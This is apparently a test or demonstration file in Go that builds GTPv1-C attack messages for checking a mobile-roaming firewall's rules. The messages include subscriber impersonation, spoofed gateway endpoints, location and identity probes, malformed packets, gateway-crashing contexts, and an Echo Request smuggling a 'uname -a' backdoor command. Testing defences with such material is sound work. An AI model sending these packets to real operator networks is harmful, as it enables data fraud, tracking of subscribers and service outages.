package demo

import (
	"encoding/binary"
	"net/netip"

	v1ie "github.com/wmnsk/go-gtp/gtpv1/ie"
)

// attacks1 are the attacks on GTPv1-C.
func attacks1() []attack {
	row := func(id, rule, name string, build func(*enemy) []byte) attack {
		return attack{id: id, rule: rule, protocol: "gtpv1", name: name, build: build}
	}
	from := func(o origin, a attack) attack { a.from = o; return a }
	return []attack{
		// Free data and impersonation.
		row("G-a", "G-05", "context of a victim that is said to be at the honest partner", func(e *enemy) []byte {
			return e.activate(set1(e.context(), v1ie.NewRouteingAreaIdentity(partnerMCC, partnerMNC, 1, 1))...)
		}),
		row("G-a", "G-05", "context of a victim that is said to be at home", func(e *enemy) []byte {
			return e.activate(set1(e.context(), v1ie.NewRouteingAreaIdentity(homeMCC, homeMNC, 1, 1))...)
		}),
		row("G-a", "G-05", "context of a subscriber that is not home's", func(e *enemy) []byte {
			return e.activate(set1(e.context(), v1ie.NewIMSI(partnerMCC+partnerMNC+"0000000001"))...)
		}),
		row("G-a", "G-05", "context of nobody", func(e *enemy) []byte {
			return e.activate(without1(without1(e.context(), v1ie.IMSI), v1ie.IMEISV)...)
		}),
		from(fromServer, row("G-l", "G-01", "context from a machine that is nobody's SGSN", func(e *enemy) []byte {
			return e.activate(e.context()...)
		})),
		from(fromStranger, row("G-g", "G-01", "sweep for gateways from a network nobody knows", func(e *enemy) []byte {
			return gtp1(echoRequest, 0, e.nextSequence(), v1ie.NewRecovery(attackerRecovery))
		})),

		// Names and endpoints.
		row("G-m", "G-06", "access point with another network's identifier", func(e *enemy) []byte {
			return e.activate(set1(e.context(), v1ie.NewAccessPointName("internet.mnc070.mcc999.gprs"))...)
		}),
		row("G-m", "G-06", "access point that was not agreed", func(e *enemy) []byte {
			return e.activate(set1(e.context(), v1ie.NewAccessPointName(fullAPN("ims")))...)
		}),
		row("E-35", "G-07", "endpoints of the honest partner", func(e *enemy) []byte {
			return e.activate(set1(e.context(), gsn(partnerGSN.face4))...)
		}),
		row("G-e", "G-07", "a live context moved to a stranger's address", func(e *enemy) []byte {
			control, _ := e.target()
			return gtp1(updatePDPRequest, control, e.nextSequence(),
				movePDP(e.mcc, e.mnc, netip.MustParseAddr("203.0.113.250"), e.newTEID(), e.newTEID())...)
		}),
		row("G-e", "G-07", "endpoint of an address that is none", func(e *enemy) []byte {
			return e.activate(set1(e.context(), v1ie.New(v1ie.GSNAddress, []byte{192, 0, 2, 1, 9}))...)
		}),

		// Types that have no business here.
		row("G-p", "G-03", "handover keys: SGSN Context Request", func(e *enemy) []byte {
			return e.about(50, v1ie.NewIMSI(e.victim().imsi), v1ie.NewRouteingAreaIdentity(homeMCC, homeMNC, 1, 1),
				v1ie.NewTEIDCPlane(e.newTEID()), gsn(e.face4))
		}),
		row("G-b", "G-03", "identities: Identification Request", func(e *enemy) []byte {
			return e.about(48, v1ie.NewRouteingAreaIdentity(homeMCC, homeMNC, 1, 1), v1ie.NewPacketTMSI(e.nextSequence()))
		}),
		row("G-p", "G-03", "a victim handed over: Forward Relocation Request", func(e *enemy) []byte {
			return e.about(53, v1ie.NewIMSI(e.victim().imsi), v1ie.NewTEIDCPlane(e.newTEID()), v1ie.NewRANAPCause(1),
				v1ie.New(v1ie.MMContext, make([]byte, 40)), gsn(e.face4),
				v1ie.New(v1ie.TargetIdentification, make([]byte, 8)), v1ie.New(v1ie.UTRANTransparentContainer, make([]byte, 8)))
		}),
		row("G-b", "G-03", "where a victim is: Send Routeing Information Request", func(e *enemy) []byte {
			return e.about(32, v1ie.NewIMSI(e.victim().imsi))
		}),
		row("G-b", "G-03", "that a victim is there: Note MS GPRS Present Request", func(e *enemy) []byte {
			return e.about(36, v1ie.NewIMSI(e.victim().imsi), gsn(e.face4))
		}),
		row("G-k", "G-03", "Error Indication on the control port", func(e *enemy) []byte {
			_, user := e.target()
			return e.about(26, v1ie.NewTEIDDataI(user), gsn(homeGSN))
		}),
		row("G-n", "G-03", "Redirection Request", e1bare(6)),
		row("G-n", "G-03", "charging: Data Record Transfer Request", e1bare(240)),
		row("E-34", "G-03", "message of a type that nobody has defined", e1bare(200)),
		row("G-n", "G-00", "GTP' dressed as GTP", func(e *enemy) []byte {
			b := e1bare(6)(e)
			b[0] &^= 0x10 // PT
			return b
		}),

		// Two readers, two messages.
		row("E-30", "G-10", "two access points in one request", func(e *enemy) []byte {
			ies := e.context()
			return e.activate(append(append(append([]*v1ie.IE(nil), ies[:9]...), v1ie.NewAccessPointName(fullAPN("ims"))), ies[9:]...)...)
		}),
		row("E-30", "G-10", "elements out of order", func(e *enemy) []byte {
			ies := append([]*v1ie.IE(nil), e.context()...)
			ies[0], ies[8] = ies[8], ies[0]
			return e.activate(ies...)
		}),
		row("E-34", "G-10", "unlisted element that has no length", func(e *enemy) []byte {
			ies := e.context()
			odd := v1ie.New(60, []byte{1, 2, 3})
			return e.activate(append(append(append([]*v1ie.IE(nil), ies[:7]...), odd), ies[7:]...)...)
		}),
		row("E-33", "G-00", "octets behind the end of the message", func(e *enemy) []byte {
			return append(e.activate(e.context()...), "behind the end"...)
		}),
		row("E-33", "G-00", "length beyond the datagram", func(e *enemy) []byte {
			b := e.activate(e.context()...)
			binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
			return b
		}),
		row("G-g", "G-12", "Echo that carries a backdoor's orders", func(e *enemy) []byte {
			return append(gtp1(echoRequest, 0, e.nextSequence()), make([]byte, 64)...)
		}),
		row("G-g", "G-12", "Echo Requests without a pause, orders in small pieces", func(e *enemy) []byte {
			return gtp1(echoRequest, 0, e.nextSequence(), v1ie.New(v1ie.PrivateExtension, []byte("\x28\xAFuname -a")))
		}),
		row("E-33", "G-00", "extension header without an end", func(e *enemy) []byte {
			b := withExtension(e.activate(e.context()...), 0xC0)
			b[12] = 0
			return b
		}),

		// What crashes gateways.
		row("#4285", "G-10", "context without End User Address", func(e *enemy) []byte {
			return e.activate(without1(e.context(), v1ie.EndUserAddress)...)
		}),
		row("#4285", "G-10", "context without Quality of Service", func(e *enemy) []byte {
			return e.activate(without1(e.context(), v1ie.QoSProfile)...)
		}),
	}
}

// context is a flawless Create PDP Context Request of the compromised partner.
func (e *enemy) context() []*v1ie.IE {
	return createPDP(e.victim(), e.mcc, e.mnc, e.face4, e.newTEID(), e.newTEID())
}

func (e *enemy) activate(ies ...*v1ie.IE) []byte {
	return gtp1(createPDPRequest, 0, e.nextSequence(), ies...)
}

// about is a message of no tunnel.
func (e *enemy) about(kind uint8, ies ...*v1ie.IE) []byte {
	return gtp1(kind, 0, e.nextSequence(), ies...)
}

// e1bare is a message that says no more than its type.
func e1bare(kind uint8) func(*enemy) []byte {
	return func(e *enemy) []byte { return e.about(kind) }
}
